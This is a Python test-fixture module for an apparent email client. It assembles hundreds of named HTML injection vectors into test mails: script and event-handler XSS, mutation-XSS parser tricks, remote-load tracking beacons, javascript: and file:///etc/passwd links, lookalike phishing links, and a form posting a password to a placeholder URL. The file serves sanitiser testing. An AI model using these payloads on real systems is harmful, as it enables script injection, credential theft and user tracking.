"""Mails that want to run, load, submit or lead astray, written for this project.

In the HTML, ``@JS@`` is script that tells on itself, ``@URL@``, ``@TLS@`` and ``@HOST@`` are
addresses (http, https, and by name) where a listener counts connections, ``@N@`` the vector's
own name.
"""

from __future__ import annotations

from email.message import EmailMessage

from attrs import frozen


@frozen
class Vector:
    """:ivar charset: in which ``html`` is sent.
    :ivar label: the charset that the mail claims, where it is another.
    :ivar parts: content id and type of further parts, and what they hold.
    """

    name: str
    html: str
    charset: str = "utf-8"
    label: str = ""
    parts: tuple[tuple[str, str, str], ...] = ()

    def mail(self, substitute: dict[str, str]) -> bytes:
        """The mail that carries it."""
        message = EmailMessage()
        message["Subject"] = self.name
        message["From"] = "Mallory <mallory@sender.test>"
        message.set_content("plain")
        message.add_alternative(b"", maintype="text", subtype="html")
        html = message.get_payload(1)
        assert isinstance(html, EmailMessage)
        html.set_content(self.content(substitute), "text", "html", cte="base64")
        html.set_param("charset", self.label or self.charset)
        for content_id, kind, content in self.parts:
            main, sub = kind.split("/")
            html.add_related(
                filled(content, substitute).encode(), main, sub, cid=f"<{content_id}>", cte="base64"
            )
        return message.as_bytes()

    def content(self, substitute: dict[str, str]) -> bytes:
        return filled(self.html, substitute).encode(self.charset)


def filled(text: str, substitute: dict[str, str]) -> str:
    for name, value in substitute.items():
        text = text.replace(f"@{name}@", value)
    return text


_SCRIPTS = {
    "script": "<script>@JS@;alert(1)</script>",
    "script-mixed-case": "<ScRiPt>@JS@</sCrIpT>",
    "script-with-slash": "<script/x>@JS@</script/y>",
    "script-remote": "<script src='@URL@'></script>",
    "script-remote-by-name": "<script src='@HOST@'></script>",
    "script-from-data": '<script src="data:text/javascript,@JS@"></script>',
    "script-module": "<script type=module>@JS@</script>",
    "script-in-table": "<table><tr><script>@JS@</script><td>x</table>",
    "script-in-svg": "<svg><script>@JS@</script></svg>",
    "script-in-svg-by-href": "<svg><script href='@URL@'></script></svg>",
    "script-after-title": "<title><!--</title><script>@JS@</script>-->",
    "script-after-broken-comment": "<!-- --!><script>@JS@</script>",
    "script-after-short-comment": "<!--><script>@JS@</script>-->",
    "script-after-processing-instruction": "<?x y='><script>@JS@</script>'>",
    "script-after-bogus-tag": "</ x='><script>@JS@</script>'>",
    "script-in-conditional": "<![if !mso]><script>@JS@</script><![endif]>",
}

_HANDLERS = {
    "img-onerror": '<img src=x: onerror="@JS@">',
    "img-onerror-slashes": "<img/src='x:'/onerror=\"@JS@\">",
    "img-onerror-newlines": '<img\nsrc=x:\nonerror\n=\n"@JS@"\n>',
    "img-onerror-form-feed": '<img\fsrc=x:\fonerror="@JS@">',
    "img-onerror-upper-case": '<IMG SRC=x: ONERROR="@JS@">',
    "img-onerror-entities": "<img src=x: onerror=\"&#116;op.pwned='@N@'\">",
    "img-onerror-twice": '<img onerror="@JS@" onerror=x src=x:>',
    "img-onerror-after-quote": "<img title='\"' src=x: onerror=\"@JS@\" alt='\"'>",
    "img-onerror-unclosed": '<img src=x: onerror="@JS@" <p>x',
    "img-onload": "<img src='data:image/gif;base64,R0lGODlhAQABAAAAACw=' onload=\"@JS@\" "
    'onerror="@JS@">',
    "image-alias": '<image src=x: onerror="@JS@">',
    "body-onload": '<body onload="@JS@">',
    "body-onpageshow": '<body onpageshow="@JS@">',
    "html-in-body": '<p>x<body onload="@JS@"><html onclick=x>',
    "svg-onload": '<svg onload="@JS@"></svg>',
    "svg-animate-onbegin": '<svg><animate onbegin="@JS@" attributeName=x dur=1s></svg>',
    "svg-set-onbegin": '<svg><set onbegin="@JS@" attributeName=x></svg>',
    "svg-image-onerror": '<svg><image href=x: onerror="@JS@"></svg>',
    "iframe-onload": '<iframe onload="@JS@"></iframe>',
    "embed-onload": "<embed src='data:text/html,x' onload=\"@JS@\">",
    "style-onload": '<style onload="@JS@"></style>',
    "link-onerror": '<link rel=stylesheet href=x: onerror="@JS@">',
    "video-onerror": '<video src=x: onerror="@JS@"></video>',
    "video-source-onerror": '<video><source src=x: onerror="@JS@"></video>',
    "audio-onerror": '<audio src=x: onerror="@JS@"></audio>',
    "video-onloadstart": '<video src=x: onloadstart="@JS@"></video>',
    "details-ontoggle": '<details open ontoggle="@JS@">x</details>',
    "input-autofocus": '<input autofocus onfocus="@JS@">',
    "textarea-autofocus": '<textarea autofocus onfocus="@JS@"></textarea>',
    "select-autofocus": '<select autofocus onfocus="@JS@"></select>',
    "button-autofocus": '<button autofocus onfocus="@JS@">x</button>',
    "anything-autofocus": '<p tabindex=0 autofocus onfocus="@JS@">x</p>',
    "editable-autofocus": '<div contenteditable autofocus onfocus="@JS@">x</div>',
    "custom-element-autofocus": '<x-y tabindex=1 autofocus onfocusin="@JS@">x</x-y>',
    "dialog-autofocus": '<dialog open><button autofocus onfocus="@JS@">x</button></dialog>',
    "link-autofocus": '<a href=# autofocus onfocus="@JS@">x</a>',
    "popover-by-target": "<button popovertarget=p>x</button>"
    '<div popover id=p onbeforetoggle="@JS@">y</div><img src=x: onerror="p.showPopover()">',
    "command-invoker": '<button commandfor=d command=show-modal autofocus onfocus="@JS@">x'
    "</button><dialog id=d>y</dialog>",
    "animation-starts": "<style>@keyframes k{}</style><p style='animation:k 1s' "
    'onanimationstart="@JS@">x',
    "animation-ends": "<style>@keyframes k{}</style><p style='animation:k 1ms' "
    'onanimationend="@JS@">x',
    "animation-prefixed": "<style>@keyframes k{}</style><p style='animation:k 1s' "
    'onwebkitanimationstart="@JS@">x',
    "content-visibility": "<p style='content-visibility:auto' "
    'oncontentvisibilityautostatechange="@JS@">x',
    "shadow-root": '<div><template shadowrootmode=open><img src=x: onerror="@JS@"></template>'
    "</div>",
    "handler-on-unknown-element": '<blink><x onclick=x><img src=x: onerror="@JS@"></blink>',
}

_FRAMES = {
    "iframe-javascript": '<iframe src="javascript:@JS@"></iframe>',
    "iframe-srcdoc": '<iframe srcdoc="<script>@JS@</script>"></iframe>',
    "iframe-srcdoc-entities": '<iframe srcdoc="&lt;script&gt;@JS@&lt;/script&gt;"></iframe>',
    "iframe-data": "<iframe src=\"data:text/html,<script>console.log('pwned @N@')</script>\">",
    "iframe-remote": "<iframe src='@URL@'></iframe>",
    "iframe-lookalike": "<iframe/src='@URL@'><iframe src='@TLS@'>",
    "object-data": "<object data=\"data:text/html,<script>console.log('pwned @N@')</script>\">",
    "object-remote": "<object data='@URL@'></object>",
    "embed-remote": "<embed src='@URL@'>",
    "frameset": "<frameset><frame src='@URL@'></frameset>",
    "form-submitted-by-image": "<form action='@URL@'><input name=q><img src=x: "
    "onerror='this.closest(\"form\").submit()'></form>",
    "meta-refresh": "<meta http-equiv=refresh content='0;url=@URL@'>",
    "meta-refresh-upper-case": "<META HTTP-EQUIV='REFRESH' CONTENT='0; URL=\"@URL@\"'>",
    "meta-refresh-data": '<meta http-equiv=refresh content="0;url=data:text/html,x">'
    "<meta http-equiv=refresh content='0 @URL@'>",
}

_LOADS = {
    "img-http": "<img src='@URL@'>",
    "img-https": "<img src='@TLS@'>",
    "img-by-name": "<img src='@HOST@'>",
    "img-scheme-relative": "<img src='//127.0.0.1:@PORT@/@N@'>",
    "img-backslashes": "<img src='http:\\\\127.0.0.1:@PORT@\\@N@'>",
    "img-with-tab": "<img src='ht\ttp://127.0.0.1:@PORT@/@N@'>",
    "img-eager-high": "<img src='@TLS@' loading=eager fetchpriority=high>",
    "img-srcset": "<img srcset='@URL@ 1x, @URL@ 2x'>",
    "img-srcset-beside-data": "<img src='data:image/gif;base64,R0lGODlhAQABAAAAACw=' "
    "srcset='@TLS@ 1x'>",
    "img-attributionsrc": "<img attributionsrc='@TLS@' src='@URL@'>",
    "picture": "<picture><source srcset='@URL@'><img></picture>",
    "input-image": "<input type=image src='@URL@'>",
    "video": "<video src='@URL@' autoplay></video>",
    "video-poster": "<video poster='@URL@'></video>",
    "video-preload": "<video preload=auto><source src='@TLS@'></video>",
    "audio": "<audio src='@URL@' autoplay></audio>",
    "track": "<video src='data:video/mp4,'><track default src='@URL@'></video><img src='@URL@'>",
    "body-background": "<body background='@URL@'>",
    "table-background": "<table background='@URL@'><tr><td>x</table>",
    "cell-background": "<table><tr><td background='@URL@'>x</table>",
    "link-stylesheet": "<link rel=stylesheet href='@URL@'>",
    "link-icon": "<link rel=icon href='@URL@'><img src='@URL@'>",
    "link-preload": "<link rel=preload as=image href='@URL@'>",
    "link-prefetch": "<link rel=prefetch href='@URL@'>",
    "link-dns-prefetch": "<link rel=dns-prefetch href='//@N@.leak.test'><img src='@HOST@'>",
    "link-modulepreload": "<link rel=modulepreload href='@URL@'>",
    "link-in-svg": "<svg><foreignObject><link rel=stylesheet href='@URL@'></svg>",
    "base-and-image": "<base href='@URL@/'><img src=pixel.gif>",
    "base-and-stylesheet": "<base href='@URL@/'><link rel=stylesheet href=a.css>",
    "svg-image": "<svg><image href='@URL@'></image></svg>",
    "svg-image-xlink": "<svg><image xlink:href='@URL@'></image></svg>",
    "svg-fe-image": "<svg><filter id=f><feImage href='@URL@'/></filter>"
    "<rect width=9 height=9 filter='url(#f)'/></svg>",
    "svg-use": "<svg><use href='@URL@#x'/><image href='@URL@'/></svg>",
    "csp-report": "<meta http-equiv=Content-Security-Policy content=\"img-src 'none'; "
    "report-uri @URL@\"><iframe src='@URL@'></iframe>",
    "applet-archive": "<applet archive='@URL@' code=x></applet><object data='@URL@'></object>",
    "fenced-frame": "<fencedframe src='@TLS@'></fencedframe><iframe src='@TLS@'></iframe>",
}

_STYLES = {
    "style-import": "<style>@import '@URL@';</style>",
    "style-import-escaped": "<style>@\\69mport '@URL@';</style>",
    "style-import-url": "<style>@import url(@URL@) screen;</style>",
    "style-background": "<style>p{background:url(@URL@)}</style><p>x",
    "style-content": "<style>p::before{content:url(@URL@)}</style><p>x",
    "style-font": "<style>@font-face{font-family:f;src:url(@URL@)}p{font-family:f}</style><p>x",
    "style-attribute-selector": "<style>a[href^=http]{background:url(@URL@)}</style>"
    "<a href='http://x.test'>x</a>",
    "style-over-the-shell": "<style>:root{background:url(@URL@);color:#fff}</style>",
    "style-in-svg": "<svg><style>@import '@URL@';rect{fill:red}</style><rect/></svg>",
    "style-variable": "<style>:root{--u:url(@URL@)}p{background:var(--u)}</style><p>x",
    "style-property": "<style>@property --u{syntax:'<image>';inherits:false;"
    "initial-value:url(@URL@)}p{background:var(--u)}</style><p style='background:url(@URL@)'>x",
    "style-view-transition": "<style>@view-transition{navigation:auto}"
    "html{background:url(@URL@)}</style>",
    "inline-background": "<p style='background:url(@URL@)'>x",
    "inline-background-quoted": "<p style='background-image:url(\"@URL@\")'>x",
    "inline-background-unclosed": "<p style='background:url(@URL@'>x",
    "inline-background-escaped": "<p style='background:\\75\\72\\6c(@URL@)'>x",
    "inline-background-escaped-name": "<p style='b\\61 ckground:url(@URL@)'>x",
    "inline-background-upper-case": "<p style='BACKGROUND:URL(@URL@)'>x",
    "inline-background-after-comment": "<p style='/*;*/background:/**/url(@URL@)'>x",
    "inline-background-in-a-string": '<p style="font-family:\'a\nb;background:url(@URL@);c">x',
    "inline-background-after-a-block": "<p style='color:{};background:url(@URL@)'>x",
    "inline-background-nested": "<p style='background:url(url(x);background:url(@URL@)'>x",
    "inline-background-entities": "<p style='background:&#117;rl(@URL@)'>x",
    "inline-list-image": "<ul><li style='list-style-image:url(@URL@)'>x</ul>",
    "inline-list-style": "<ul style='list-style:square url(@URL@)'><li>x</ul>",
    "inline-border-image": "<p style='border:9px solid;border-image:url(@URL@) 9'>x",
    "inline-mask": "<p style='mask:url(@URL@)'>x",
    "inline-image-set": "<p style='background:image-set(\"@URL@\" 1x)'>x",
    "inline-image-set-prefixed": "<p style='background:-webkit-image-set(url(@URL@) 1x)'>x",
    "inline-cross-fade": "<p style='background:-webkit-cross-fade(url(@URL@),url(@URL@),50%)'>x",
    "inline-shape": "<p style='float:left;shape-outside:url(@URL@)'>x"
    "<p style='background:url(@URL@)'>",
    "inline-variable": "<p style='--u:url(@URL@);background:var(--u)'>x",
    "font-tag-breaks-out": '<font face="a;background:url(@URL@)" '
    "style=\"font-family:'x';background:url('@URL@')\">x</font>",
}

# What parsers disagree on: harmless as first read, something else once written and read again.
_MUTATIONS = {
    "mxss-math-style": "<math><mtext><table><mglyph><style><!--</style>"
    '<img title="--&gt;&lt;img src=x: onerror=@JS@&gt;"><img src=x: onerror="@JS@">',
    "mxss-svg-style": "<svg></p><style><a id=\"</style><img src=x: onerror='@JS@'>\">",
    "mxss-annotation": "<math><annotation-xml encoding='text/html'><style>"
    '<img src=x: onerror="@JS@"></style></annotation-xml></math><img src=x: onerror="@JS@">',
    "mxss-svg-title": '<svg><title><style></title><img src=x: onerror="@JS@"></style></svg>'
    '<img src=x: onerror="@JS@">',
    "mxss-desc": "<svg><desc><table><style><img src=x: onerror='@JS@'></style></svg>"
    '<img src=x: onerror="@JS@">',
    "mxss-noscript": "<noscript><p title=\"</noscript><img src=x: onerror='@JS@'>\">",
    "mxss-noscript-nested": '<noscript><noscript></noscript><img src=x: onerror="@JS@"></noscript>',
    "mxss-noembed": "<noembed><p title=\"</noembed><img src=x: onerror='@JS@'>\">",
    "mxss-noframes": "<noframes><p title=\"</noframes><img src=x: onerror='@JS@'>\">",
    "mxss-xmp": "<xmp><p title=\"</xmp><img src=x: onerror='@JS@'>\">",
    "mxss-textarea": "<textarea><p title=\"</textarea><img src=x: onerror='@JS@'>\">",
    "mxss-title": "<title><p title=\"</title><img src=x: onerror='@JS@'>\">",
    "mxss-style": "<style><p title=\"</style><img src=x: onerror='@JS@'>\">",
    "mxss-iframe": "<iframe><p title=\"</iframe><img src=x: onerror='@JS@'>\">",
    "mxss-script": '<script><!--<script></script>--></script><img src=x: onerror="@JS@">',
    "mxss-cdata-in-svg": '<svg><![CDATA[><img src=x: onerror="@JS@">]]></svg>'
    '<img src=x: onerror="@JS@">',
    "mxss-cdata-in-html": '<![CDATA[><img src=x: onerror="@JS@">]]>',
    "mxss-comment-in-svg": '<svg><!--</svg>--><img src=x: onerror="@JS@">',
    "mxss-template": "<template><s><template><s><img src=x: onerror=x></template></s>"
    '</template><img src=x: onerror="@JS@">',
    "mxss-deep": "<div>" * 600 + '<svg><style><img src=x: onerror="@JS@"></style>'
    '<p><img src=x: onerror="@JS@">',
    "mxss-table-in-table": "<table><a id=\"<table><td><img src=x: onerror='@JS@'>\">"
    '<table><caption><svg><p><img src=x: onerror="@JS@">',
    "mxss-plaintext": '<img src=x: onerror="@JS@"><plaintext></plaintext>',
    "foreign-html": '<svg><foreignObject><body onload="@JS@"><img src=x: onerror="@JS@">',
    "foreign-namespace": "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>x</x:script>"
    "<math href='javascript:@JS@'><mi xlink:href=x>y</mi></math><svg onload=\"@JS@\">",
    "unclosed-attribute": '<p title=\'x<img src=x: onerror="@JS@">\'><img src=x: onerror="@JS@">',
    "null-in-tag": '<scr\0ipt>x</scr\0ipt><img src=x: one\0rror=x onerror="@JS@">',
    "null-before-tag": '\0<\0img src=x><img\0 src=x: onerror=x><img src=x: onerror="@JS@">',
    "entities-without-end": "<img src=x: onerror=&#x74op.pwned='@N@'>",
    "document-within": "</div></body></html><script>@JS@</script><div class=html>",
}

_ELSEWHERE = {
    "script-unclosed": "<p>x<script>@JS@",
    "script-halves": "<scr<script></script>ipt>@JS@</script>",
    "script-by-speculation": (
        '<script type=speculationrules>{"prefetch":[{"source":"list","urls":["@URL@"],'
        '"eagerness":"immediate"}]}</script>'
    ),
    "object-onerror": '<object data=x: onerror="@JS@"></object>',
    "marquee-onstart": '<marquee onstart="@JS@">x</marquee>',
    "transition-runs": "<style>p{color:red;transition:color 1ms}"
    '@starting-style{p{color:blue}}</style><p ontransitionrun="@JS@">x',
    "object-javascript": '<object data="javascript:@JS@"></object>',
    "embed-javascript": '<embed src="javascript:@JS@">',
    "meta-refresh-javascript": '<meta http-equiv=refresh content="0;url=javascript:@JS@">',
    "link-preconnect": "<link rel=preconnect href='@URL@'>",
    "link-preconnect-by-name": "<link rel=preconnect href='@HOST@'>",
    "inline-filter": "<p style='filter:url(@URL@#f)'>x",
    "mxss-form": "<form><math><mtext></form><form><mglyph><style></math>"
    '<img src=x: onerror="@JS@">',
    "mxss-select": '<select><template><style><!--</style><a rel="--></style></template>'
    '</select><img src=x: onerror=\'@JS@\'>"></select><img src=x: onerror="@JS@">',
}

_NAMES = {
    "link-javascript": '<a href="javascript:@JS@">x</a>',
    "link-javascript-mixed-case": '<a href="JaVaScRiPt:@JS@">x</a>',
    "link-javascript-tab": '<a href="java\tscript:@JS@">x</a>',
    "link-javascript-newline": '<a href="java&NewLine;script:@JS@">x</a>',
    "link-javascript-entities": '<a href="&#106;avascript&colon;@JS@">x</a>',
    "link-javascript-control": '<a href="&#1;&#32;javascript:@JS@">x</a>',
    "link-javascript-as-http": '<a href="javascript://http://x/%0a@JS@">x</a>',
    "link-data": '<a href="data:text/html,<script>1</script>">x</a>',
    "link-vbscript": "<a href='vbscript:msgbox(1)'>x</a>",
    "link-file": "<a href='file:///etc/passwd'>x</a>",
    "link-blob": "<a href='blob:null/1'>x</a>",
    "link-intent": "<a href='intent://x#Intent;end'>x</a><a href='tel:1'>y</a>",
    "link-ftp": "<a href='ftp://x.test/'>x</a>",
    "link-relative": "<a href='/api/v1/mailboxes'>x</a><a href='#y'>z</a><a href=''>w</a>",
    "link-scheme-relative": "<a href='//x.test/'>x</a>",
    "link-with-user-name": "<a href='https://bank.test@evil.test/'>x</a>",
    "link-with-backslash": "<a href='https:\\\\evil.test/'>x</a>",
    "link-with-ping": "<a href='https://x.test/' ping='@URL@' download target=_top>x</a>",
    "link-in-svg-xlink": '<svg><a xlink:href="javascript:@JS@"><text y=9>x</text></a></svg>',
    "link-in-svg-animated": '<svg><a><animate attributeName=href values="javascript:@JS@"/>'
    "<text y=9>x</text></a></svg>",
    "link-in-math": '<math><mi href="javascript:@JS@">x</mi></math>',
    "link-area": '<map name=m><area href="javascript:@JS@"></map><img usemap=#m>',
    "base-for-links": "<base href='javascript:/a/' target=_top><a href='b'>x</a>",
    "form": "<form action='@URL@' method=post><input name=password><button>go</button></form>",
    "form-button-elsewhere": "<form id=f></form><button form=f formaction='@URL@'>go</button>",
    "clobber-form": "<form id=document name=body><input id=cookie name=attributes></form>",
    "clobber-images": "<img name=getElementById id=currentScript><a id=defaultView name=x>x</a>",
    "overlay": "<div style='position:fixed;inset:0;z-index:9;background:red'>log in</div>",
    "class-of-the-shell": "<div class='note html' id=text slot=x part=y is=z>x</div>",
    "cid-upward": "<img src='cid:../../../../api/v1/mailboxes'>",
    "cid-script": "<img src='cid:javascript:alert(1)'><a href='cid:page'>x</a>",
    "cid-quotes": "<img src='cid:x\"onerror=\"alert(1)'>",
}

_LISTS = (_SCRIPTS, _HANDLERS, _FRAMES, _LOADS, _STYLES, _MUTATIONS)

ACTIVE = [
    *(Vector(name, html) for part in _LISTS for name, html in part.items()),
    Vector("charset-wrong", '<p>é<img src=x: onerror="@JS@">', "iso-8859-1"),
    Vector("charset-wide", '<img src=x: onerror="@JS@">', "utf-16"),
    Vector(
        "charset-escape", "<p title='\x1b$B!!\x1b(B'><img src=x: onerror=\"@JS@\">", "iso-2022-jp"
    ),
]
"""What runs or loads in today's Chromium when nothing is in its way."""

LATENT = [
    *(Vector(name, html) for part in (_ELSEWHERE, _NAMES) for name, html in part.items()),
    Vector("utf-7", "+ADw-script+AD4-@JS@+ADw-/script+AD4-", label="utf-7"),
    Vector("utf-7-within", "<meta charset=utf-7>+ADw-script+AD4-@JS@+ADw-/script+AD4-"),
    Vector("style-expression", "<p style='width:expression(@JS@)'>x"),
    Vector("style-behaviour", "<p style='behavior:url(@URL@);-moz-binding:url(@URL@)'>x"),
    Vector("style-javascript", "<p style='background:url(javascript:1)'>x<img lowsrc='@URL@'>"),
    Vector("bgsound", "<bgsound src='@URL@'><layer src='@URL@'><img dynsrc='@URL@'>"),
    Vector("data-island", "<xml src='@URL@' id=x></xml><?xml-stylesheet href='@URL@'?>"),
    Vector("import", "<link rel=import href='@URL@'><portal src='@URL@'></portal>"),
    Vector(
        "cid-svg",
        "<img src=cid:s><embed src=cid:s><object data=cid:s></object>",
        parts=(("s", "image/svg+xml", "<svg xmlns='http://www.w3.org/2000/svg' onload='@JS@'/>"),),
    ),
    Vector(
        "cid-html-as-png",
        "<img src=cid:h><iframe src=cid:h></iframe>",
        parts=(("h", "image/png", "<script>@JS@</script>"),),
    ),
]
"""What needs a click, another browser, or a mistake of ours."""

ALL = [*ACTIVE, *LATENT]
